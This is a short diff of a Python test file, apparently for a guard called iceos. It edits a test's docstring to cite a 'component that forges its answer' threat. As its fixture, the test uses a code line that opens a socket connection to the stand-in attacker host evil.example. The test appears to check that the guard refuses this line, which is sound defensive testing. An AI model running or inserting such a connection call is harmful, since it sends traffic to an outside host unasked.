@@ -70,7 +70,7 @@ def test_a_module_under_a_name_of_ours_is_not_ours(target: Target) -> None:
 
 
 def test_a_denial_of_the_guard_keeps_its_words(target: Target) -> None:
-    """What iceos refused itself is told with the command that mends it."""
+    """Threat 30: a component that forges its answer: what iceos refused itself is told with what mends it."""
     target.placed(document(), files=doing("__import__('socket').create_connection(('evil.example', 80))"))
 
     outcome = target.run()
